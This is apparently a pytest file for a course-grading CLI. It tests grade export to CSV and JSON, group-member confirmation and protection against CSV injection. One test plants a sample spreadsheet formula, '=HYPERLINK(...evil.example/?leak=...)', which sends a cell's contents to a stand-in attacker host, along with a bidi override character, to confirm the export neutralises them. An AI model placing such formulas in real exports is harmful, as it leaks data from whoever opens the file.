"""``grade export``: per-student grades as CSV (the columns of grades.csv) or JSON."""
from __future__ import annotations

import json
from pathlib import Path

from click.testing import CliRunner
from test_scores import GOOD, MEMBERS, _standard, _write_sheet

from grader.cli.main import main


def test_export_csv_and_json_after_scores(tmp_path: Path) -> None:
    out = _standard(tmp_path)
    runner = CliRunner()
    sheet = _write_sheet(tmp_path / "s.csv", [GOOD])
    result = runner.invoke(main, ["scores", str(sheet), "-o", str(out), "--tutor", "ada"])
    assert result.exit_code == 0, result.output
    result = runner.invoke(main, ["export", "-o", str(out), "--format", "csv"])
    assert result.exit_code == 0, result.output
    assert (out / "export.csv").read_text() == (out / "grades.csv").read_text()
    target = tmp_path / "grades.json"
    result = runner.invoke(main, ["export", "-o", str(out), "--format", "json", "--to", str(target)])
    assert result.exit_code == 0, result.output
    rows = json.loads(target.read_text())
    assert len(rows) == 6 and {r["student_id"] for r in rows} >= {m[1] for m in MEMBERS[0]}
    ada = next(r for r in rows if r["student_id"] == "2571234")
    assert ada["11.2.1"] == 0.5 and ada["11.1.1"] is None and ada["points"] == 4.5 and ada["status"] == "graded"
    assert list(ada)[:5] == ["student_id", "name", "email", "submission", "status"]


def test_a_bad_sheet_exits_2_naming_the_row(tmp_path: Path) -> None:
    out = _standard(tmp_path)
    sheet = _write_sheet(tmp_path / "s.csv", [dict(GOOD, points="lots")])
    result = CliRunner().invoke(main, ["scores", str(sheet), "-o", str(out)])
    assert result.exit_code == 2
    assert "row 2: points 'lots' is not a number" in result.output


# -- CSV neutralisation (OWASP "CSV injection") --------------------------------------------------
import csv  # noqa: E402
import io  # noqa: E402
import re  # noqa: E402

import pytest  # noqa: E402
from hypothesis import given, settings  # noqa: E402
from hypothesis import strategies as st  # noqa: E402
from test_scores import fake_output, fake_result  # noqa: E402

from grader.folder.grades import TRIGGERS, neutralise, restore, safe_csv, suspicious, visible  # noqa: E402

CELLS = st.one_of(st.text(), st.sampled_from(["=1+2", "+1", "-1", "-x", "@SUM(A1)", "\t=1", "\r=1", "'=1", "''=1",
                                              "0.5", "-0.25", "1e5", "=", "'", "''", "-", "+-1"]),
                  st.lists(st.sampled_from(["=", "+", "-", "@", "'", "\t", "\r", "1", ".", "a"]),
                           max_size=5).map("".join))
PLAIN_NUMBER = re.compile(r"[+-]?(?:\d+(?:[.,]\d*)?|[.,]\d+)(?:[eE][+-]?\d+)?")


@settings(max_examples=400, deadline=None)
@given(CELLS)
def test_a_neutralised_cell_never_starts_a_formula_and_restores_exactly(text: str) -> None:
    safe = neutralise(text)
    assert restore(safe) == text
    if PLAIN_NUMBER.fullmatch(text):
        assert safe == text  # numbers stay numbers
    else:
        assert safe[:1] not in TRIGGERS
    (row,) = list(csv.reader(io.StringIO(safe_csv([[text, 1.5]]), newline="")))
    assert row[0] == safe and row[1] == "1.5"


@settings(max_examples=200, deadline=None)
@given(st.text())
def test_suspicious_characters_are_found_and_shown(text: str) -> None:
    shown = visible(text)
    assert not suspicious(shown)
    assert bool(suspicious(text)) == (shown != text)


def test_formula_names_and_bidi_characters_are_neutralised_everywhere(tmp_path: Path) -> None:
    members = [('=HYPERLINK("http://evil.example/?leak="&A1,"Ada") Lovelace', "2571234", "=1+2@uni.example"),
               ("Alan \u202eTuring", "2579876", "alan@uni.example")]
    data = fake_result("Lovelace_2571234_Turing_2579876", members)
    data["flags"] = [{"code": "group.suspicious", "question": None, "message": "x"}]
    out = fake_output(tmp_path / "out", [data])
    for text in ((out / "grades.csv").read_text(encoding="utf-8"),
                 CliRunner().invoke(main, ["export", "-o", str(out), "--to", "-"]).stdout):
        rows = list(csv.DictReader(io.StringIO(text, newline="")))
        assert rows[0]["name"].startswith("'=HYPERLINK(") and rows[0]["email"] == "'=1+2@uni.example"
        assert rows[1]["name"] == "Alan <U+202E>Turing" and "\u202e" not in text
        for row in rows:
            assert all(not v or v[0] not in TRIGGERS or PLAIN_NUMBER.fullmatch(v) for v in row.values()), row
    exported = json.loads(CliRunner().invoke(main, ["export", "-o", str(out), "--format", "json", "--to", "-"]).stdout)
    assert exported[0]["name"].startswith("=HYPERLINK(")  # JSON is no spreadsheet: the name as written
    assert "group.suspicious" in exported[0]["flags"]


def test_a_member_absent_from_the_file_name_gets_no_points_until_confirmed(tmp_path: Path) -> None:
    members = [*MEMBERS[0], ("Grace Hopper", "2570001", "grace@uni.example")]  # not in the file name
    out = fake_output(tmp_path / "out", [fake_result("Lovelace_2571234_Turing_2579876", members)])
    rows = {r["student_id"]: r for r in csv.DictReader(io.StringIO((out / "grades.csv").read_text()))}
    assert rows["2570001"]["status"] == "unconfirmed" and rows["2570001"]["points"] == ""
    assert all(rows["2570001"][q] == "" for q in ("11.1.1", "11.4.a"))
    assert rows["2571234"]["status"] == "graded" and rows["2571234"]["points"] != ""
    assert "Unconfirmed" in (out / "summary.html").read_text() and "2570001" in (out / "summary.html").read_text()
    exported = json.loads(CliRunner().invoke(main, ["export", "-o", str(out), "--format", "json", "--to", "-"]).stdout)
    assert next(r for r in exported if r["student_id"] == "2570001")["points"] is None

    runner = CliRunner()
    bad = runner.invoke(main, ["confirm", "-o", str(out), "Lovelace_2571234_Turing_2579876", "9999999"])
    assert bad.exit_code == 2 and "9999999 is not in the group cell" in bad.output
    ok = runner.invoke(main, ["confirm", "-o", str(out), "Lovelace_2571234_Turing_2579876", "2570001",
                              "--tutor", "ada"])
    assert ok.exit_code == 0, ok.output
    rows = {r["student_id"]: r for r in csv.DictReader(io.StringIO((out / "grades.csv").read_text()))}
    assert rows["2570001"]["status"] == "graded" and rows["2570001"]["points"] == rows["2571234"]["points"]
    assert "Unconfirmed" not in (out / "summary.html").read_text()
    again = runner.invoke(main, ["confirm", "-o", str(out), "Lovelace_2571234_Turing_2579876", "2570001"])
    assert "already confirmed" in again.output


@pytest.mark.parametrize("folder", ["[red]boom[/red]", "[bold"])
def test_errors_print_rich_markup_literally(tmp_path: Path, folder: str) -> None:
    result = CliRunner().invoke(main, ["export", "-o", str(tmp_path / folder)])
    assert result.exit_code == 2
    assert folder in result.output and "Traceback" not in result.output
